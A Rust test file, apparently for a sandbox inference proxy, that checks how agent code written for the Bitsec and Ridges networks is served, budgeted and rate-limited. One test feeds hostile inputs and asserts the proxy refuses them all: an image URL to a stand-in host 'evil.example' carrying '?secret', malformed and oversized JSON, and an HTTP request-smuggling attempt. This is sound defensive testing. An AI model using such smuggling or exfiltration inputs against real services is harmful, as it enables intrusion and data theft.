//! Faces: agents as miners of other networks write them, and attacks that come by their protocols.

use std::time::Duration;

use serde_json::json;

use crate::provider::{Provider, Says};
use crate::support::Folder;

/// Agents of Bitsec's and of Ridges' networks, as they ask.
const AGENTS: &str = r#"
BITSEC, RIDGES = os.getenv("INFERENCE_API"), os.getenv("SANDBOX_PROXY_URL")
RUN_ID = os.getenv("EVALUATION_RUN_ID")


def bitsec(text, **more):
    return said(BITSEC + "/inference", {"model": "m", "messages": [{"role": "user", "content": text}], **more})


def ridges(text, **more):
    body = {"evaluation_run_id": RUN_ID, "model": "m", "temperature": 0.5, "messages": [{"role": "user", "content": text}]}
    return said(RIDGES + "/api/inference", body | more)


def said(url, body=None, headers={}):
    data = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
    try:
        status, text = fetch(urllib.request.Request(url, data, {"content-type": "application/json", **headers}))
    except OSError as error:
        return [0, str(error)]
    return [status, json.loads(text)]
"#;

fn folder(provider: &Provider, grant: &str, tests: &[&str], agent: &str) -> Folder {
    Folder::with(provider, grant, tests, &format!("{AGENTS}\n{agent}"))
}

#[test]
fn an_agent_of_bitsecs_asks_as_it_does_there() {
    let provider = Provider::echo();
    let agent = r#"
def work():
    headers = {"x_project_id": os.getenv("PROJECT_ID"), "x_job_id": os.getenv("JOB_ID")}
    body = {"model": "m", "messages": [{"role": "system", "content": "s"}, {"role": "user", "content": "u"}]}
    return said(BITSEC + "/inference", body, headers)


def get(path):
    names = sorted(name for name in os.environ if "OPENAI" in name or "RIDGES" in name or name == "RUN_ID")
    return [names, said(BITSEC + "/v1/models")[0], said(BITSEC + "/api/usage")[0], bitsec("x", model=None)[0]]
"#;
    let answer = "{'content': 'echo u', 'role': 'assistant', 'input_tokens': 10, 'cached_tokens': 0, 'output_tokens': 5}";
    let tests = [&format!("work() == [200, {answer}]"), "get('other') == [[], 404, 404, 200]"];
    let folder = folder(&provider, "{allow: [m], faces: [bitsec]}", &tests, agent);
    folder.expect_passed();
    let asked = &provider.asked()[0];
    assert!(!asked.head.contains("x_job_id"), "{asked:?}");
    let body = json!({
        "model": "m", "messages": [{ "role": "system", "content": "s" }, { "role": "user", "content": "u" }],
        "max_tokens": 60_000, "temperature": 0.2, "response_format": { "type": "json_object" },
    });
    assert_eq!(asked.body, body);
    assert_eq!(folder.recording()[0]["path"], "/chat/completions");
}

#[test]
fn an_agent_of_ridges_asks_as_it_does_there() {
    let provider = Provider::new(|asked| match asked.text().as_str() {
        "call" => {
            let call = json!({ "id": "1", "type": "function", "function": { "name": "read", "arguments": "{\"path\": \"a\"}" } });
            let message = json!({ "role": "assistant", "content": null, "tool_calls": [call] });
            let usage = json!({ "prompt_tokens": 10, "completion_tokens": 5 });
            Says::Status(200, "", json!({ "choices": [{ "message": message }], "usage": usage }).to_string())
        }
        text => Says::Text(format!("echo {text}"), Duration::ZERO),
    });
    let agent = r#"
def work():
    tool = {"name": "read", "description": "d", "parameters": [{"type": "string", "name": "path", "description": "p", "required": True}]}
    return [
        ridges("hi"),
        ridges("call", tool_mode="auto", tools=[tool]),
        said(RIDGES + "/api/embedding", {"evaluation_run_id": RUN_ID, "model": "m", "input": "x"}),
        said(RIDGES + "/api/usage?evaluation_run_id=" + RUN_ID),
        said(RIDGES + "/api/v1/usage")[1]["requests"],
        os.environ["RIDGES_MAX_COST_USD"], float(os.environ["AGENT_TIMEOUT"]),
    ]


def get(path):
    return ridges("hi", evaluation_run_id="another", model="expensive")
"#;
    let calls = "[{'name': 'read', 'arguments': [{'name': 'path', 'value': 'a'}]}]";
    let usage = "{'used_cost_usd': 0.000043, 'remaining_cost_usd': 0.249957, 'max_cost_usd': 0.25}";
    let tests = [
        "work()[0] == [200, {'content': 'echo hi', 'tool_calls': []}]",
        &format!("work()[1] == [200, {{'content': '', 'tool_calls': {calls}}}]"),
        "work()[2] == [200, {'embedding': [0.5, 1.0]}]",
        "get('x')[0] == 403 and 'not allowed' in get('x')[1]['detail']",
        "work()[5:] == ['0.25', 10.0]",
    ];
    let folder = folder(&provider, "{allow: [m], cost: 0.25, faces: [ridges]}", &tests, agent);
    folder.task("usage", &[&format!("work()[3:5] == [[200, {usage}], 3]")]);
    let ran = folder.run(&[]);
    assert_eq!(ran.code, Some(0), "{}", ran.said);
    let scores = folder.read("results/scores.csv");
    assert_eq!(
        scores.matches(",100,passed,").count(),
        2,
        "{scores}\n{}",
        folder.read("results/agents/alice.json")
    );
    let asked = provider.asked();
    assert!(asked.iter().all(|asked| !asked.body.to_string().contains("00000000-0000")), "{asked:?}");
    assert_eq!(asked[1].body["tools"][0]["function"]["parameters"]["required"], json!(["path"]));
}

/// Wrong JSON, too much of it, and what would reach a network: each face refuses it in its own words, and works on.
#[test]
fn hostile_requests_are_refused_in_every_face() {
    let provider = Provider::echo();
    let agent = r#"
IMAGE = [{"type": "image_url", "image_url": {"url": "http://evil.example/?secret"}}]
RIGHT = {"model": "m", "temperature": 0, "messages": [{"role": "user", "content": "x"}]}
TOOL = {"name": "f", "description": "d", "parameters": []}


def paths():
    return [BITSEC + "/inference", RIDGES + "/api/inference"]


def work():
    wrong = [
        b"{", b"", b"[]", b"\xff\xfe", b"[" * 100000, b'{"model": "m", "model": "n", "temperature": 0, "messages": []}',
        RIGHT | {"messages": [{"role": "user", "content": IMAGE}]},
        RIGHT | {"messages": []}, RIGHT | {"messages": [{"role": "root", "content": "x"}]},
        RIGHT | {"temperature": "1e999"}, b'{"model": "m", "temperature": 1e999, "messages": []}',
    ]
    found = {said(path, body)[0] for path in paths() for body in wrong}
    found.add(said(BITSEC + "/inference", RIGHT | {"max_tokens": 0})[0])
    found.add(said(RIDGES + "/api/inference", RIGHT | {"tool_mode": "auto", "tools": [TOOL | {"parameters": "x"}]})[0])
    found.add(said(RIDGES + "/api/embedding", {"run_id": RUN_ID, "input": "x"})[0])
    found.add(said(RIDGES + "/api/embedding", {"model": "m", "input": ["http://evil.example"] * 1000})[0])
    return found


def ask(text):
    """Bodies larger than any may be, and a second request behind each."""
    found = []
    for path in "/inference", "/api/inference", "/api/embedding", "/chat/completions":
        found.append(raw(head(path, (3 << 20) + len(second(path))) + b" " * (3 << 20) + second(path), 20)[9:12])
        right = json.dumps(RIGHT).encode()
        found.append(raw(head(path, len(right)) + right + second(path), 20).count("HTTP/1.1"))
    return found


def raw(data, patience):
    with socket.create_connection(("127.0.0.1", 4000)) as link:
        link.settimeout(patience)
        try:
            link.sendall(data)
        except OSError:
            pass
        answer = b""
        try:
            while chunk := link.recv(1 << 16):
                answer += chunk
        except OSError:
            pass
        return answer.decode(errors="replace")


def head(path, length):
    return f"POST {path} HTTP/1.1\r\nHost: x\r\nX_JOB_ID: 1\r\nContent-Length: {length}\r\n\r\n".encode()


def second(path):
    body = json.dumps(RIGHT | {"messages": [{"role": "user", "content": "smuggled"}]}).encode()
    return head(path, len(body)) + body


def get(path):
    url = {"bitsec": BITSEC + "/inference", "ridges": RIDGES + "/api/inference"}[path]
    status, body = said(url, b"{")
    return [status, type(body["detail"]).__name__, list(body), said(url)[0], bitsec("after it")[1]["content"]]
"#;
    let words = "[422, 'str', ['detail'], 404, 'echo after it']";
    let tests = [
        "work() == {422}",
        "ask('large') == ['413', 1, '413', 1, '413', 1, '413', 1]",
        &format!("get('bitsec') == {words} and get('ridges') == {words}"),
    ];
    let grant = "{allow: [m], cost: 1, faces: [ridges, bitsec, openai]}";
    let folder = folder(&provider, grant, &tests, agent);
    let text = folder.read("pipeline.yaml").replace("    model:", "    sandbox: {timeout: 60s}\n    model:");
    folder.write("pipeline.yaml", &text);
    folder.expect_passed();
    let asked = provider.asked();
    assert!(
        asked.iter().all(|asked| !asked.body.to_string().contains("evil") && asked.text() != "smuggled"),
        "{asked:?}"
    );
}

/// 64 threads ask in all three protocols at once: there is one budget, whatever they say of who asks.
#[test]
fn faces_share_one_budget() {
    let provider = Provider::new(|asked| Says::Text(asked.text(), Duration::from_millis(20)));
    let agent = r#"
def work():
    start, found = threading.Barrier(64), []

    def race(number):
        start.wait()
        for turn in range(3):
            job = {"x_job_id": f"{number}-{turn}", "authorization": f"Bearer {number}"}
            body = {"evaluation_run_id": f"{number}", "model": "m", "temperature": 0, "max_tokens": 5}
            body["messages"] = [{"role": "user", "content": "x"}]
            found.append(said([BITSEC + "/inference", RIDGES + "/api/inference"][number % 2], body, job)[0])
            found.append(ask("x", max_tokens=5))

    threads = [threading.Thread(target=race, args=(number,)) for number in range(64)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    answered = found.count(200) + found.count("x")
    return [answered, found.count(429), len(found), said(BITSEC + "/inference", {"messages": [{"role": "user", "content": "x"}]})]
"#;
    let over = "[429, {'detail': \"this run's budget of requests is used up\"}]";
    let tests = [&*format!("work() == [30, 354, 384, {over}]")];
    let grant =
        "{allow: [m], requests: 30, tokens: 100k, cost: 1, at_once: 64, faces: [openai, bitsec, ridges]}";
    let folder = folder(&provider, grant, &tests, agent);
    let text = folder
        .read("pipeline.yaml")
        .replace("    model:", "    sandbox: {timeout: 60s, pids: 128}\n    model:");
    folder.write("pipeline.yaml", &text);
    folder.expect_passed();
    assert_eq!(provider.asked().len(), 30);
}
